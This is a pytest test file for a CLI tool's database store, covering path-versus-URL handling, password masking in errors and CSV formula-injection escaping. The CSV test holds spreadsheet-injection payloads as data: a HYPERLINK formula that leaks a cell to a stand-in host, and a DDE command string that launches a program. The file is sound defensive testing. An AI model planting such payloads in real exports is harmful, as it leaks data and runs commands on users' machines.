"""--db is a path unless it is a database URL; a URL's password never reaches the output."""

from __future__ import annotations

import socket
from pathlib import Path

import pytest
from typer.testing import CliRunner

from dateline.cli import app
from dateline.errors import DatelineError
from dateline.store import Store, database_url, mask_url
from dateline.store.engine import mask_secrets

runner = CliRunner()
SECRET = "s3cret-Pa55"


def _closed_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@pytest.mark.parametrize("name", ["percent%20x.db", "q?mode=ro.db", "hash#1.db", "sp ace.db"])
def test_a_plain_db_path_names_that_very_file(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    with Store(str(path)) as store:
        assert store.counts()["documents"] == 0
    assert path.is_file()
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.endswith(".db")) == [name]


def test_db_option_with_url_characters_writes_the_named_file(tmp_path: Path) -> None:
    path = tmp_path / "q?mode=ro.db"
    result = runner.invoke(app, ["events", "--db", str(path)])
    assert result.exit_code == 0, result.output
    assert path.is_file()
    assert not (tmp_path / "q").exists()


def test_sqlite_urls_stay_urls(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'u.db'}"
    assert database_url(url) == url
    with Store(url):
        pass
    assert (tmp_path / "u.db").is_file()


def _pg_url_with_password(port: int) -> str:
    return f"postgresql+psycopg://dateline:{SECRET}@127.0.0.1:{port}/dateline"


def test_password_is_masked_in_open_errors() -> None:
    with pytest.raises(DatelineError) as caught:
        Store(_pg_url_with_password(_closed_port()))
    message = str(caught.value)
    assert caught.value.code == "DL-E050"
    assert SECRET not in message
    assert "dateline:***@127.0.0.1" in message


@pytest.mark.parametrize("via", ["--db", "DATELINE_DB"])
def test_password_is_masked_in_command_line_errors(via: str) -> None:
    url = _pg_url_with_password(_closed_port())
    if via == "--db":
        result = runner.invoke(app, ["events", "--db", url])
    else:
        result = runner.invoke(app, ["events"], env={"DATELINE_DB": url})
    assert result.exit_code == 2
    assert "DL-E050" in result.stderr
    assert SECRET not in result.output + result.stderr


def test_password_is_masked_in_version_and_store_repr(tmp_path: Path) -> None:
    result = runner.invoke(app, ["--version"], env={"DATELINE_DB": _pg_url_with_password(1)})
    assert result.exit_code == 0
    assert SECRET not in result.output
    with Store(str(tmp_path / "r.db")) as store:
        store.url = _pg_url_with_password(5432)  # what a PostgreSQL store would hold
        assert SECRET not in repr(store)


def test_unsupported_url_error_masks_the_password() -> None:
    with pytest.raises(DatelineError, match="DL-E052") as caught:
        Store(f"mysql://root:{SECRET}@127.0.0.1/x")
    assert SECRET not in str(caught.value)


@pytest.mark.parametrize(
    "url",
    [
        f"postgresql+psycopg://u:{SECRET}@h/db",
        f"postgresql://u:{SECRET}@h:5432/db?sslmode=disable",
        f"postgresql+psycopg:///db?host=h&password={SECRET}",
        f"postgresql://u:{SECRET}@weird@h/db",  # an unescaped '@' in the password
    ],
)
def test_mask_secrets_hides_the_password_wherever_a_message_repeats_it(url: str) -> None:
    message = f"cannot reach {url}; server said: password {SECRET!r} rejected ({SECRET})"
    masked = mask_secrets(message, url)
    assert SECRET not in masked
    assert SECRET not in mask_url(url)
    assert "***" in mask_url(url)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_export_neutralises_cells_a_spreadsheet_would_run(tmp_path: Path, start: str) -> None:
    import csv
    import io
    import json

    from test_store import make_extraction

    formula = f'{start}HYPERLINK("http://example.invalid/?"&A1,"click")'
    extraction = make_extraction(formula)
    event = extraction["events"][0]
    event.update(location=f"{start}SUM(1+1)", attribution=f"{start}cmd|' /C calc'!A0")
    event["source"] = [f"{start}actor"]
    db = str(tmp_path / "csv.db")
    with Store(db) as store:
        store.add(extraction)
    result = runner.invoke(app, ["export", "--format", "csv", "--db", db])
    assert result.exit_code == 0, result.output
    [row] = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    for column in ("evidence", "location", "attribution", "source"):
        assert row[column].startswith("'" + start), (column, row[column])
    assert row["type"] == "VISIT"  # harmless cells are written as they are
    assert row["target"] == "RUS"
    # JSON Lines is data, not a spreadsheet: it keeps the text exactly.
    jsonl = runner.invoke(app, ["export", "--format", "jsonl", "--db", db]).stdout
    assert json.loads(jsonl)["location"] == f"{start}SUM(1+1)"
